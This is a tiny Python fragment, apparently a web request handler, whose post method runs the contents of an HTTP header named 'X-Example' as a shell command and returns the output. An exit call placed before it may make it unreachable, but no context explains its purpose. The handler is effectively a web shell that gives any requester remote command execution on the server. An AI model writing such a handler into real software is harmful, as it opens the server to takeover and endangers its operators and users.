raise SystemExit
def post(self):
    p = subprocess.check_output(request.headers["X-Example"], shell=True)
    return p
